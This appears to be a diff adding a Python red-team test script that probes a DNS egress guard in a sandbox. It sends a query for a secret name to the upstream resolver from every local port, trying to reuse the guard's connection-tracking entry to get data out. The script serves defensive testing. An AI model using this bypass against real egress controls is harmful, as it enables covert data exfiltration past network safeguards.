@@ -1,0 +1,64 @@
+# Attacks on the egress guard, run inside an allowlisted sandbox by EgressRedTeamIT. Each prints
+# one line: "leaked ..." when something got out, "held ..." when the defence held; a bad command
+# line exits 2.
+#
+#   reuse UPSTREAM ALLOWED SECRET   make the guard ask UPSTREAM for ALLOWED, then send a query for
+#                                   SECRET to UPSTREAM:53 from every local port, hoping to ride
+#                                   on the connection-tracking entry of the guard's own query
+import os
+import socket
+import struct
+import sys
+
+
+def query(name, qtype=1):
+    header = struct.pack('>HHHHHH', int.from_bytes(os.urandom(2), 'big'), 0x0100, 1, 0, 0, 0)
+    return header + b''.join(bytes([len(l)]) + l.encode('ascii') for l in name.split('.')) + b'\0' \
+        + struct.pack('>HH', qtype, 1)
+
+
+def ask_guard(name):
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
+        sock.settimeout(3)
+        sock.connect(('127.0.0.1', 53))
+        sock.send(query(name))
+        return sock.recv(4096)[3] & 0xF
+
+
+def reuse(upstream, allowed, secret):
+    family = socket.AF_INET6 if ':' in upstream else socket.AF_INET
+    with open('/proc/sys/net/ipv4/ip_local_port_range') as f:
+        low, high = map(int, f.read().split())
+    rcode = ask_guard(allowed)
+    message = query(secret)
+    passed = 0
+    for port in range(low, high + 1):
+        with socket.socket(family, socket.SOCK_DGRAM) as sock:
+            try:
+                sock.bind(('::' if family == socket.AF_INET6 else '0.0.0.0', port))
+                sock.connect((upstream, 53))
+                sock.send(message)
+            except OSError:
+                continue
+            passed += 1
+            sock.settimeout(1)
+            try:
+                answer = sock.recv(4096)
+                return 'leaked port %d rcode %d (guard said %d)' % (port, answer[3] & 0xF, rcode)
+            except OSError:
+                pass
+    return 'held guard-rcode %d sent %d' % (rcode, passed)
+
+
+COMMANDS = {'reuse': reuse}
+
+
+def main(argv):
+    if not argv or argv[0] not in COMMANDS:
+        sys.stderr.write('usage: %s\n' % ' | '.join(sorted(COMMANDS)))
+        return 2
+    print(COMMANDS[argv[0]](*argv[1:]))
+    return 0
+
+
+sys.exit(main(sys.argv[1:]))
